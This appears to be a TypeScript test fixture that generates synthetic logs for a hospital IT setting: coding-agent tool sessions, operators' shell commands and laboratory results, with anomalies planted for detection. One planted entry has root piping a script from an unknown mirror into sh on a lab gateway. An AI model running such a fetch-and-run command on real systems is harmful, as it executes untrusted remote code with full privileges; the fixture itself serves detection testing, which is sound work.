/** What a coding agent does whom a recorder records, and what two programs submit with payloads of their own shape. */
import { SeededRandom } from '../support/random.ts';
import { berlin, type HookCall, hookSession, type Moment, plainRecord } from './moments.ts';
import { PATIENT } from './ward.ts';

const DAYS = Array.from({ length: 21 }, (_, n) => 12 + n);
const isWeekend = (day: number): boolean => [17, 18, 24, 25, 31, 32].includes(day);
/** The day on which the laboratory says nothing. */
const SILENT = 28;
const PROJECT = '/srv/it';
const MINUTE = 60_000;

function at<T>(list: readonly T[], n: number): T {
  const found = list[n % list.length];
  if (found === undefined) throw new Error('the list is empty');
  return found;
}

const FILES = ['scripts/backup.py', 'scripts/lager.py', 'web/termine.ts', 'web/stationen.ts', 'README.md'];
const PROMPTS = [
  'The nightly backup is slow, find out why',
  'Add the new ward to the list of stations',
  'Die Termine werden doppelt angezeigt, bitte beheben',
  'Update the page of the opening hours',
];

const read = (file: string, ms: number): HookCall => {
  const path = `${PROJECT}/${file}`;
  return {
    tool: 'Read',
    input: { file_path: path },
    ms,
    ending: { response: { type: 'text', file: { filePath: path, content: `# ${file}\n` } } },
  };
};
const edit = (file: string, ms: number): HookCall => ({
  tool: 'Edit',
  input: { file_path: `${PROJECT}/${file}`, old_string: 'stations = 6', new_string: 'stations = 7' },
  ms,
  ending: { response: { filePath: `${PROJECT}/${file}` } },
});
const bash = (
  command: string,
  ms: number,
  ending: HookCall['ending'] = { response: { stdout: 'ok', stderr: '' } },
): HookCall => ({
  tool: 'Bash',
  input: { command, description: 'run' },
  ms,
  ending,
});
const fetched = (url: string): HookCall => ({
  tool: 'WebFetch',
  input: { url, prompt: 'Summarize' },
  ms: 640,
  ending: { response: { result: `A page of ${new URL(url).host}` } },
});

function callsOf(n: number, random: SeededRandom): HookCall[] {
  const file = at(FILES, n);
  const failed = { error: `Exit code 1\n${1 + (n % 4)} tests failed` };
  const isRetried = n % 9 === 4;
  return [
    read(file, 10 + random.below(20)),
    { tool: 'Grep', input: { pattern: 'stations', path: PROJECT }, ms: 35, ending: { response: { numFiles: 3 } } },
    ...(n % 5 === 0
      ? [fetched(at(['https://docs.python.example/3/', 'https://wiki.klinik-nord.example/it'], n / 5))]
      : []),
    read(at(FILES, n + 1), 12),
    edit(file, 18),
    edit(at(FILES, n + 1), 16),
    ...(n === 12 ? [bash('ssh apo-db-1 pg_restore --dbname=probe /backup/apotheke.dump', 35 * MINUTE)] : []),
    ...(n % 6 === 1 ? [{ ...bash('grep -rn TODO web', 90), subAgent: `helper-${n}` }] : []),
    ...(n % 7 === 3 ? [bash(`git push origin change-${n}`, 200, { denied: 'pushing needs a person' })] : []),
    read('package.json', 8),
    bash('npm run lint', 2100),
    bash('npm test', 4100 + n, n % 3 === 1 && n % 7 !== 3 ? failed : undefined),
    ...(isRetried && n % 3 === 1 ? [edit(file, 15), bash('npm test', 3900)] : []),
    ...(n === 30 || n === 41
      ? [
          {
            tool: 'Task',
            input: { description: 'review', prompt: 'Review the change' },
            ms: 5000,
            ending: 'open' as const,
          },
        ]
      : []),
  ];
}

/** Coding sessions: three a workday, one a day at weekends. */
export function coding(): Moment[] {
  const random = new SeededRandom(4);
  let n = 0;
  return DAYS.flatMap((day) =>
    (isWeekend(day) ? [12] : [9, 13, 17]).flatMap((hour) => {
      n += 1;
      const begin = berlin(day, `${hour}:${10 + random.below(30)}:${random.below(60)}`);
      return hookSession(`it-${String(n).padStart(2, '0')}`, begin, at(PROMPTS, n), callsOf(n, random));
    }),
  );
}

/** A command that ran somewhere, as a script notes it. */
function command(
  at: number,
  host: string,
  user: string,
  line: string,
  more: { exit_code?: number; stdout?: string } = {},
): Moment {
  const { exit_code = 0, stdout = '' } = more;
  return plainRecord('shell-ops', at, {
    operation_type: 'shell.exec',
    subject: host,
    action: 'exec',
    payload: { command: line, host, user, exit_code, stdout, duration_ms: 40 + line.length },
  });
}

const HOSTS = ['apo-db-1', 'web-1', 'mail-1', 'lab-gw-1'];
const SERVICES = ['nginx', 'postgresql', 'postfix', 'chrony'];

/** Commands of the operators' script, one an hour, and what stands out among them. */
export function commands(): Moment[] {
  const random = new SeededRandom(5);
  const moments: Moment[] = [];
  let sudo = 0;
  for (const day of DAYS) {
    for (let hour = 0; hour < 24; hour++) {
      const time = berlin(day, `${hour}:${5 + random.below(20)}:${random.below(60)}`);
      const host = at(HOSTS, hour + day);
      // 37 on the database of the pharmacy, and as many as come on the others.
      if (host === 'apo-db-1' && hour % 3 === 0 && sudo < 37) {
        sudo += 1;
        moments.push(
          command(time, host, 'ops', `sudo systemctl status ${at(SERVICES, sudo)}`, { stdout: 'active (running)' }),
        );
      } else if (host === 'web-1' && hour % 5 === 0) {
        moments.push(command(time, host, 'ops', 'sudo systemctl reload nginx'));
      } else moments.push(command(time, host, 'ops', at(['df -h', 'uptime', 'journalctl -n 20', 'who'], hour)));
    }
  }
  // Neither is sudo that ran on that host.
  moments.push(
    command(berlin(16, '11:31'), 'apo-db-1', 'ops', 'grep sudo /var/log/auth.log', { stdout: 'sudo: ops' }),
    command(berlin(17, '11:31'), 'web-1', 'ops', 'cat hosts.txt', { stdout: 'apo-db-1 sudo' }),
  );
  for (const [n, day] of [13, 15, 20, 23, 27, 30].entries()) {
    moments.push(
      command(berlin(day, '04:40'), at(HOSTS, n), 'ops', `test -s /backup/part-${n}`, { exit_code: 1 + (n % 2) }),
    );
  }
  moments.push(
    command(berlin(22, '3:12:09'), 'lab-gw-1', 'root', 'curl -s https://mirror.unbekannt.example/setup.sh | sh', {
      stdout: 'installed',
    }),
    // The hour that comes twice: half past two by both.
    command(Date.UTC(2026, 9, 25, 0, 30, 0, 2), 'apo-db-1', 'ops', 'pg_dump apotheke', { stdout: 'begun' }),
    command(Date.UTC(2026, 9, 25, 1, 30, 0, 2), 'apo-db-1', 'ops', 'pg_dump apotheke', { stdout: 'finished' }),
    plainRecord('shell-ops', berlin(29, '22:47'), {
      operation_type: 'payment.create',
      subject: 'RE-9001',
      action: 'create',
      payload: {
        invoice: 'RE-9001',
        payee: 'Nordlicht Pharma',
        amount: '2150.00',
        currency: 'EUR',
        account: 'konto/4711',
        status: 'booked',
      },
    }),
  );
  return moments;
}

const PATIENTS = ['王小明', 'राम कुमार', 'Jana Kříž', 'Ole Sørensen', PATIENT];
const ANALYSES = [
  ['CRP', 'mg/l'],
  ['Glucose', 'mg/dl'],
  ['Potassium', 'mmol/l'],
] as const;

function result(at_: number, n: number, random: SeededRandom): Moment {
  const patient = at(PATIENTS, n);
  const [analysis, unit] = at(ANALYSES, n);
  return plainRecord('labor', at_, {
    operation_type: 'lab.result',
    // In every third record the subject is the patient.
    subject: n % 3 === 0 ? `patient/${patient}` : `sample/P-${20_000 + n}`,
    action: 'record',
    payload: { sample: `P-${20_000 + n}`, patient, analysis, value: (10 + random.below(900)) / 10, unit },
  });
}

/** The laboratory: results, and what is handed to the hospital's system. Nothing on one day. */
export function laboratory(): Moment[] {
  const random = new SeededRandom(6);
  const moments: Moment[] = [];
  let n = 0;
  let pushed = 0;
  for (const day of DAYS.filter((day) => day !== SILENT)) {
    for (let turn = 0; turn < 20; turn++) {
      n += 1;
      const minutes = turn * 36 + random.below(30);
      const time = berlin(day, `${6 + Math.floor(minutes / 60)}:${minutes % 60}:${random.below(50)}`);
      moments.push(result(time, n, random));
      if (turn % 2 === 0) continue;
      pushed += 1;
      moments.push(
        plainRecord('labor', time + 5000, {
          operation_type: 'lab.push',
          subject: 'lis.klinik-nord.example',
          action: 'push',
          payload: {
            method: 'POST',
            url: 'https://lis.klinik-nord.example/api/results',
            http_status: pushed % 7 === 0 && pushed <= 19 * 7 ? 500 : 201,
            duration_ms: 80 + random.below(300),
          },
        }),
      );
    }
  }
  // A line as another program wrote it: a name from right to left, then a date.
  for (const [index, day] of [14, 21, 30].entries()) {
    moments.push(
      plainRecord('labor', berlin(day, `7:1${index}`), {
        operation_type: 'lab.import',
        subject: 'import',
        action: 'import',
        payload: { line: `${PATIENT};1971-02-03` },
      }),
    );
  }
  for (let extra = 0; extra < 24; extra++) {
    moments.push(result(berlin(25, `14:${String(extra % 20).padStart(2, '0')}:${10 + extra}`), 5000 + extra, random));
  }
  return moments;
}
